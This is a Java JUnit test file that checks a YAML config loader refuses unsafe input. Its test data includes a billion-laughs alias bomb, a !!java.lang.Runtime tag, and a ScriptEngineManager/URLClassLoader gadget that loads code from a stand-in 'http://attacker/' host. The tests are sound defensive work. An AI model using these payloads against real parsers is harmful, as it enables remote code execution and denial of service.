package dev.levee.core.config;

import static dev.levee.core.config.ConfigTesting.problems;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** resilience.yaml may come from anywhere an operator points at: no types, no expansion, bounded size. */
class SafeLoadingTest {

  @Test
  void billionLaughsIsRefusedQuickly() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 1; i < 10; i++) {
      bomb.append("a").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 9; j++) {
        bomb.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
      }
      bomb.append("]\n");
    }
    ConfigException e = assertTimeoutPreemptively(Duration.ofSeconds(2),
        () -> assertThrows(ConfigException.class, () -> ConfigLoader.parse(bomb.toString(), "resilience.yaml")));
    assertEquals(List.of("resilience.yaml:4:20: more than 20 aliases to lists or mappings: anchors may share a few "
            + "settings, not expand large structures"),
        List.of(e.problems().get(0).toString()));
  }

  @Test
  void aFewAliasesAreFine() throws Exception {
    ConfigTesting.parse(
        "http:",
        "  defaults:",
        "    retry: { retryOn: &failures [connect-failure, reset] }",
        "    circuitBreaker: { recordOn: *failures }");
  }

  @Test
  void javaTypeTagsAreRefused() {
    assertEquals(List.of("resilience.yaml:1:11: the tag !!javax.script.ScriptEngineManager is not allowed: "
            + "resilience.yaml holds plain values only"),
        problems("deadline: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
            + "[\"http://attacker/\"]]]]"));
    assertEquals(List.of("resilience.yaml:1:1: the tag !!java.lang.Runtime is not allowed: resilience.yaml holds "
            + "plain values only"),
        problems("!!java.lang.Runtime {}"));
  }

  @Test
  void localAndExoticTagsAreRefused() {
    assertEquals(List.of(
            "resilience.yaml:2:13: http.defaults: the tag !policy is not allowed: resilience.yaml holds plain "
                + "values only",
            "resilience.yaml:4:11: deadline.header: the tag !!binary is not allowed: resilience.yaml holds plain "
                + "values only"),
        problems(
            "http:",
            "  defaults: !policy {}",
            "deadline:",
            "  header: !!binary WC1E"));
  }

  @Test
  void explicitStandardTagsAreFine() throws Exception {
    assertEquals("X-1", ConfigTesting.parse("deadline: { header: !!str X-1 }").deadline().header());
  }

  @Test
  void duplicateKeysAreRefused() {
    assertEquals(List.of("resilience.yaml:3:1: http: duplicate key (first on line 1)"),
        problems("http: {}", "jdbc: {}", "http: {}"));
  }

  @Test
  void recursiveStructuresAreRefusedWithoutHanging() {
    List<String> found = assertTimeoutPreemptively(Duration.ofSeconds(2),
        () -> problems("http:", "  defaults:", "    retry: { retryOn: &loop [*loop] }"));
    assertEquals(List.of("resilience.yaml:3:23: http.defaults.retry.retryOn[0]: expected an outcome "
            + "(connect-failure, reset, timeout, transient, a status code (503) or a status class (5xx)), got a "
            + "list"),
        found);
  }

  @Test
  void recursiveKeysAreRefused() {
    assertEquals(1, problems("? &k [*k]", ": 1").size());
  }

  @Test
  void textOverTheCapIsRefused() {
    StringBuilder big = new StringBuilder();
    while (big.length() <= ConfigLoader.MAX_FILE_BYTES) {
      big.append("# padding padding padding padding padding padding padding\n");
    }
    ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.parse(big.toString(), "big.yaml"));
    assertEquals("big.yaml: is larger than 1024 KiB; is this the right file?", e.getMessage());
  }
}
